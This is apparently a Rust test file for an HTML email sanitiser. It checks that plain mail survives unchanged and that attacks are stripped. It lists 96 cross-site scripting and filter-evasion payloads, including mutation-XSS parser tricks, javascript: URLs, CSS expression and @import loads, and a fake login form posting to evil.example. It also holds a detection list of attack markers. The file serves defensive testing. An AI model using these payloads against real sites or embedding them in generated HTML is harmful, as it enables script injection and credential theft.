//! Attacks and plain mail through the sanitiser. The table follows the kinds of the known lists (filter evasion,
//! styles, parser confusion), in cases of our own.
#![allow(clippy::unwrap_used)]

use super::*;

fn clean(html: &str) -> String {
    let out = sanitise(html, &|_| true);
    let html = out.html.strip_prefix("<!DOCTYPE html>").unwrap().to_owned();
    html + &out.hints
}

#[test]
fn plain_mail_stays_as_it_is() {
    for html in [
        "<p class=\"x\">Kính gửi: <b>UBND</b> xã</p>",
        "<table><tr><td colspan=\"2\" style=\"color: red\">1.284</td></tr></table>",
        "<ul><li>một</li><li>hai</li></ul><hr>a<br>b",
        "<a href=\"https://quynhon.gov.vn/a?b=1&amp;c=2\">x</a>",
        "<style>td { color: red } @media (max-width: 600px) { td { width: 100% } }</style>",
    ] {
        assert_eq!(clean(html), html);
    }
}

/// Everything that loads, runs, submits, frames or redirects.
pub(super) const ATTACKS: [&str; 96] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script>a</script bogus>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x\tonerror\n=\ralert(1)>",
    "<body onload=alert(1)>",
    "<a onmouseover=alert(1)>x</a>",
    "<p style=\"x\" ONCLICK=alert(1)>x</p>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=//evil.example/x></script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><image href=http://evil.example/x.png></svg>",
    "<svg><use href=http://evil.example/x.svg#a></svg>",
    "<svg><style>*{background:url(http://evil.example/1)}</style></svg>",
    "<svg><foreignObject><iframe src=http://evil.example></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><script>alert(1)</script></noframes>",
    "<template><script>alert(1)</script></template>",
    "<select><script>alert(1)</script></select>",
    "<plaintext><script>alert(1)</script>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=http://evil.example></frameset>",
    "<object data=http://evil.example/x.swf></object>",
    "<embed src=http://evil.example/x.swf>",
    "<applet code=x archive=http://evil.example/x.jar></applet>",
    "<video src=http://evil.example/x.mp4 poster=http://evil.example/p.png></video>",
    "<video><source src=http://evil.example/x.mp4></video>",
    "<audio src=http://evil.example/x.mp3 autoplay></audio>",
    "<track src=http://evil.example/x.vtt>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
    "<meta http-equiv=Set-Cookie content=a=b>",
    "<form action=http://evil.example><input name=password><button>Đăng nhập</button></form>",
    "<input type=image src=http://evil.example/x.png>",
    "<button formaction=http://evil.example>x</button>",
    "<isindex action=http://evil.example prompt=x>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#09;script:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"blob:https://evil.example/1\">x</a>",
    "<a href=\"ms-settings:x\">x</a>",
    "<a href=\"\\\\evil.example\\share\">x</a>",
    "<a ping=http://evil.example href=#>x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<area href=javascript:alert(1)><map name=a></map>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"width:exp/**/ression(alert(1))\">x</p>",
    "<p style=\"width:e\\78 pression(alert(1))\">x</p>",
    "<p style=\"-moz-binding:url(//evil.example/x.xml#x)\">x</p>",
    "<p style=\"behavior:url(x.htc)\">x</p>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>@\\69mport url(http://evil.example/x.css);</style>",
    "<style>@import/**/\"//evil.example/x\"</style>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/x.woff)}</style>",
    "<style>@namespace url(http://evil.example/);</style>",
    "<style>@media all{@import url(http://evil.example)}</style>",
    "<style></style><script>alert(1)</script></style>",
    "<style>a::before{content:'</style><script>alert(1)</script>'}</style>",
    "<style><!-- </style><script>alert(1)</script> --></style>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if true]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><?xml-stylesheet href=\"http://evil.example/x.css\"?>",
    "<html manifest=http://evil.example/x><head profile=http://evil.example/p></head></html>",
    "<q cite=http://evil.example/c>x</q><blockquote cite=http://evil.example/c>x</blockquote>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4= alt=x>",
    "<p style=\"background:url('data:text/html,x')\">x</p>",
    "<td longdesc=http://evil.example/x usemap=#x lowsrc=http://evil.example/y>x</td>",
];

#[test]
fn attacks_leave_nothing_that_acts() {
    for attack in ATTACKS {
        let out = clean(attack).to_ascii_lowercase();
        for sign in [
            "<script",
            "<iframe",
            "<frame",
            "<object",
            "<embed",
            "<svg",
            "<math",
            "<link",
            "<meta",
            "<base",
            "<form",
            "<input",
            "<button",
            "<video",
            "<audio",
            "<source",
            "<template",
            "javascript:",
            "vbscript:",
            "evil.example",
            "expression(",
            "@import",
            "@font-face",
            "onerror=",
            "onload=",
            "onclick=",
            "onmouseover=",
            "data:",
            "file:",
            "blob:",
            "ms-settings",
            "<noscript",
            "<textarea",
            "<title",
            "<xmp",
            "<select",
            "<plaintext",
            "srcdoc",
            "formaction",
            "ping=",
            "manifest",
            "cite=\"",
        ] {
            assert!(
                !tags(&out).contains(sign),
                "{attack}\n→ {out}\nholds {sign}"
            );
        }
    }
}

/// The document without its running text, where signs of attacks are only words.
fn tags(html: &str) -> String {
    let mut out = String::new();
    for piece in html.split('<').skip(1) {
        let (tag, text) = piece.split_once('>').unwrap_or((piece, ""));
        out.push('<');
        out.push_str(tag);
        out.push('>');
        if tag == "style" {
            out.push_str(text);
        }
    }
    out
}

#[test]
fn addresses_in_styles_become_numbers_however_they_are_spelt() {
    for style in [
        "background:url(http://a.example/1)",
        "background:url( 'http://a.example/1' )",
        "background:URL(\"http://a.example/1\")",
        "background:u\\72l(http://a.example/1)",
        "background:\\75\\72\\6c(http://a.example/1)",
        "background:url(http:\\/\\/a.example/1)",
        "background:url(\\68ttp://a.example/1)",
        "background:u\\00072 l('http://a.example/1')",
        "background:red/**/url(http://a.example/1)",
        "list-style:url(//a.example/1)",
        "cursor:url(http://a.example/1),auto",
        "--x:url(http://a.example/1)",
        "color:red;{background:url(http://a.example/1)}",
        "background:url(http://a.example/1",
    ] {
        for html in [
            format!("<p style='{}'>x</p>", style.replace('\'', "&#39;")),
            format!("<style>p{{{style}}}</style>"),
        ] {
            let out = sanitise(&html, &|_| true);
            assert!(!out.html.contains("a.example"), "{html} → {}", out.html);
            let numbered = out.html.contains("picture:0");
            assert!(numbered, "{html} → {}", out.html);
            assert_eq!(out.pictures.len(), 1, "{html}");
        }
    }
    for style in [
        "background:image-set('http://a.example/1' 1x)",
        "background:-webkit-image-set(url(http://a.example/1) 1x)",
        "background:cross-fade(url(http://a.example/1),red)",
        "background:src('http://a.example/1')",
        "background:image('http://a.example/1')",
        "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://a.example/1')",
    ] {
        let out = clean(&format!("<p style=\"{style}\">x</p>"));
        let left = out.contains("a.example") && !out.contains("progid");
        assert!(!left, "{out}");
    }
}

#[test]
fn pictures_are_told_apart_by_where_they_come_from() {
    let html = "<img src=cid:a@b><img src=http://x.example/1.png width=1 height=1>\
                <img src='data:image/png;base64,iVBORw0KGgo='><img src=/relative.png><img src=cid:a@b>";
    let out = sanitise(html, &|_| true);
    let sources: Vec<_> = out
        .pictures
        .iter()
        .map(|picture| picture.source.clone())
        .collect();
    assert_eq!(
        sources,
        [
            Source::Part("a@b".to_owned()),
            Source::Remote("http://x.example/1.png".to_owned()),
            Source::Inline(b"\x89PNG\r\n\x1a\n".to_vec()),
        ]
    );
    assert!(out.pictures[1].tracks && !out.pictures[0].tracks);
}

#[test]
fn words_stand_for_pictures_that_are_not_shown() {
    let out = sanitise(
        "<img src=http://x.example/1.png alt='Quốc huy' width=90 height=60><img src=http://x.example/p.gif width=1 height=1 alt=t>",
        &|_| false,
    );
    assert!(out.html.contains("Quốc huy") && !out.html.contains("<img"));
    assert!(out.hints.contains("width:90px") && !out.html.contains(">t<"));
}

#[test]
fn legacy_attributes_become_rules() {
    let hints = |html: &str| sanitise(html, &|_| true).hints;
    for (html, rule) in [
        ("<td bgcolor=\"#eee\">", "background-color:#eee;"),
        ("<td bgcolor=eeeeee>", "background-color:#eeeeee;"),
        ("<td bgcolor=navy>", "background-color:navy;"),
        ("<td bgcolor=chucknorris>", "background-color:#c00000;"),
        ("<table cellspacing=0>", "border-spacing:0px;"),
        ("<table cellpadding=7><tr><td>", "padding:7px;"),
        ("<table border=1><tr><td>", "border:1px inset gray;"),
        (
            "<td valign=top nowrap>",
            "vertical-align:top;white-space:nowrap;",
        ),
        (
            "<font color=red size=5 face='Times New Roman, serif'>",
            "color:red;font-size:x-large;font-family:\"Times New Roman\",serif;",
        ),
        (
            "<table align=center width=600>",
            "margin-left:auto;margin-right:auto;width:600px;",
        ),
        ("<td align=CENTER>", "text-align:-moz-center;"),
        ("<img align=left src=cid:a>", "float:left;"),
        (
            "<td background=cid:a>",
            "background-image:url(\"picture:0\");",
        ),
        ("<br clear=all>", "clear:both;"),
    ] {
        assert!(hints(html).contains(rule), "{html}: {}", hints(html));
    }
}

#[test]
fn no_document_nests_or_grows_without_end() {
    let deep = "<div>".repeat(100_000) + "text";
    let out = sanitise(&deep, &|_| true);
    assert!(out.html.matches("<div>").count() <= 200 && out.html.contains("text"));
    let unclosed = "<p><b>x".repeat(50_000);
    assert!(sanitise(&unclosed, &|_| true).html.len() < unclosed.len() * 2 + 100);
    let parentheses = format!("<p style=\"a:{}\">x", "(".repeat(100_000));
    assert!(clean(&parentheses).contains('x'));
    let attributes = format!("<p {}>x", "a ".repeat(100_000));
    assert!(clean(&attributes).contains('x'));
}

#[test]
fn emphasis_that_outlives_its_paragraph_ends_where_it_is_ended() {
    let out = clean("<p><b>a<p>b</b>c");
    assert!(out.contains("</b>"), "{out}");
}
